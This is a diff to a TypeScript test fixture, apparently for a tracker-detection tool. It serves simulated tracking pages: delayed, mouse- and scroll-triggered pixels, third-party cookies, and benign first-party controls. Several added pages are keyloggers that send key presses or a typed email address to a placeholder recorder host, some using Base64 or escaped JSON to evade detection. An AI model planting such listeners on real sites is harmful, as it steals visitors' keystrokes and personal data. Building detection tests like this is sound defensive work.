@@ -39,7 +39,18 @@ export const TRACKER_HOSTS = [
   'rec.keylog-recorder.example',
   'fp.fingerprint-vendor.example',
   'cdn.static-assets.example',
+  // Third parties that set cookies: from an image, from a frame's document, from a script's response.
+  'px.ad-image.example',
+  'embed.video-frame.example',
+  'js.audience-script.example',
 ] as const;
+
+/** What each cookie-setting third party sets (SameSite=None; Secure, as a third-party cookie must be). */
+const THIRD_PARTY_COOKIES: Record<string, string> = {
+  'px.ad-image.example': 'IDE=AHWqTU; Domain=ad-image.example; Path=/; Max-Age=34128000; Secure; SameSite=None',
+  'embed.video-frame.example': 'VISITOR_INFO1_LIVE=xk2; Domain=video-frame.example; Path=/; Max-Age=15552000; Secure; SameSite=None; HttpOnly',
+  'js.audience-script.example': 'aud_uid=u-991; Path=/; Max-Age=31536000; Secure; SameSite=None',
+};
 
 export const SITE_HOSTS = ['shop.test', 'www.shop.test'] as const;
 
@@ -90,6 +101,10 @@ function trackerAnswer(host: string, path: string, port: number): { type: string
 /** The fixture pages, by path (served on every SITE_HOSTS name). */
 function pages(port: number): Record<string, string> {
   const https = (host: string[], path: string) => `'https://' + ${join(...host)} + ':${port}${path}'`;
+  /** A search box whose key listener sends each key press (`send` sees `e` and KEYS, the logger's address). */
+  const keyLogger = (name: string, send: string) =>
+    page('Search', `<label>Search the shop <input type="search" name="q${name}"></label>`, `var KEYS = ${https(['rec.keylog-', 'recorder.example'], '/keys')};
+       document.querySelector('input').addEventListener('keydown', function (e) { if (e.key.length === 1) { ${send} } });`);
   const loadScript = (host: string[], path: string) => `var s = document.createElement('script'); s.src = ${https(host, path)}; document.head.appendChild(s);`;
   return {
     // The shop of the issue: five behaviours, all from scripts, none in the HTML.
@@ -134,6 +149,32 @@ function pages(port: number): Record<string, string> {
     ),
     '/gpc-honoured': page('Honours GPC', '', `if (!navigator.globalPrivacyControl) { ${loadScript(['connect.face', 'book.net'], '/en_US/fbevents.js')} document.cookie = '_fbp=fb.1.2; max-age=9000; path=/'; }`),
     '/gpc-ignored': page('Ignores GPC', '', `${loadScript(['connect.face', 'book.net'], '/en_US/fbevents.js')} document.cookie = '_fbp=fb.1.2; max-age=9000; path=/';`),
+    // ---- a visit like a person's: tags that wait for time, the mouse, scrolling or key presses
+    '/delayed-pixel': page('Delayed', '<p>Reading takes time.</p>', `setTimeout(function () { new Image().src = ${https(['www.face', 'book.com'], '/tr?id=44556677&ev=PageView')}; }, 4000);`),
+    '/mouse-pixel': page(
+      'Mouse',
+      '<p>Move along.</p>',
+      `document.addEventListener('mousemove', function once() { document.removeEventListener('mousemove', once); new Image().src = ${https(['t', '.co'], '/1/i/adsct?txn_id=mouse1&p_id=Twitter&events=%5B%5B%22pageview%22%2C%7B%7D%5D%5D')}; });`,
+    ),
+    '/scroll-pixel': page(
+      'Long read',
+      '<div style="height:4000px">A long article.</div><p id="end">The end.</p>',
+      `window.addEventListener('scroll', function () { if (window.scrollY + innerHeight >= document.documentElement.scrollHeight - 10 && !window.__sent) { window.__sent = 1; navigator.sendBeacon(${https(['stats.g.double', 'click.net'], '/g/collect?v=2&tid=G-SCROLL9')}); } });`,
+    ),
+    '/key-events-plain': keyLogger('k', 'fetch(KEYS + "?t=" + Date.now() + "&k=" + encodeURIComponent(e.key), { mode: "no-cors" }).catch(function(){});'),
+    '/key-events-json': keyLogger('j', 'navigator.sendBeacon(KEYS, JSON.stringify({ ts: Date.now(), e: { key: e.key } }));'),
+    '/key-events-base64': keyLogger('b', 'new Image().src = KEYS + "?c=" + encodeURIComponent(btoa(e.key));'),
+    // The email field's value, sent as JSON with @ and . written as \u escapes, once it is long enough.
+    '/key-value-escaped': page('Join', '<label>Email <input type="email" name="email"></label>', `var KEYS = ${https(['rec.keylog-', 'recorder.example'], '/v')};
+       document.querySelector('input').addEventListener('keyup', function (e) { var v = e.target.value; if (v.length > 20) navigator.sendBeacon(KEYS, JSON.stringify({ v: v }).replace(/[@.]/g, function (c) { return '\\\\u00' + c.charCodeAt(0).toString(16); })); });`),
+    // Third-party cookies, from an image, a frame and a script (and a page whose third parties set none).
+    '/third-party-cookies': page(
+      'Embeds',
+      '<p>A video and an ad.</p>',
+      `var i = new Image(); i.src = ${https(['px.ad-', 'image.example'], '/pixel.gif')}; document.body.appendChild(i);
+       var f = document.createElement('iframe'); f.src = ${https(['embed.video-', 'frame.example'], '/embed/abc')}; document.body.appendChild(f);
+       ${loadScript(['js.audience-', 'script.example'], '/tag.js')}`,
+    ),
     // ---- benign pages: ordinary sites, no tracking
     '/benign/chart': page(
       'Sales chart',
@@ -187,6 +228,13 @@ function pages(port: number): Record<string, string> {
       '<canvas id="g" width="320" height="240"></canvas>',
       `var x = document.getElementById('g').getContext('2d'); for (var f = 0; f < 3; f++) { x.save(); x.fillStyle = '#0a0'; x.fillRect(f * 10, 100, 16, 16); x.fillStyle = '#fff'; x.fillText('Score: ' + (f * 100) + ' points so far', 10, 20); var hit = x.getImageData(f * 10, 100, 8, 8); x.restore(); }`,
     ),
+    // A timer and key presses that stay on the site: its own late beacon, its own per-key suggestions.
+    '/benign/late-first-party': page('Late', '<p>Stats later.</p>', `setTimeout(function () { navigator.sendBeacon('/stats', 'read=1'); }, 3000);`),
+    '/benign/search-suggest-keys': page(
+      'Suggest',
+      '<label>Search <input type="search" name="q"></label>',
+      `document.querySelector('input').addEventListener('keydown', function (e) { fetch('/suggest?k=' + encodeURIComponent(e.key)).catch(function(){}); });`,
+    ),
     '/benign/share-links': page(
       'Article',
       '<p><a href="https://www.facebook.com/sharer/sharer.php?u=https://shop.test/">Share</a> <a href="https://twitter.com/intent/tweet">Post</a></p>',
@@ -206,6 +254,8 @@ export const BENIGN_PAGES = [
   '/benign/first-party-analytics',
   '/benign/canvas-game',
   '/benign/share-links',
+  '/benign/late-first-party',
+  '/benign/search-suggest-keys',
 ] as const;
 
 export class TrackingSites {
@@ -269,10 +319,11 @@ export class TrackingSites {
       return void res.writeHead(url.pathname === '/' ? 200 : 404, { 'content-type': 'text/plain' }).end('ok');
     }
     const answer = trackerAnswer(host, url.pathname, this.port);
+    const cookie = host === 'www.facebook.com' ? 'fr=0abc; Domain=facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None' : THIRD_PARTY_COOKIES[host];
     res.writeHead(200, {
-      'content-type': answer.type,
+      'content-type': host === 'embed.video-frame.example' ? 'text/html; charset=utf-8' : answer.type,
       'access-control-allow-origin': '*',
-      ...(host === 'www.facebook.com' ? { 'set-cookie': 'fr=0abc; Domain=facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None' } : {}),
+      ...(cookie ? { 'set-cookie': cookie } : {}),
     });
     res.end(answer.body);
   }
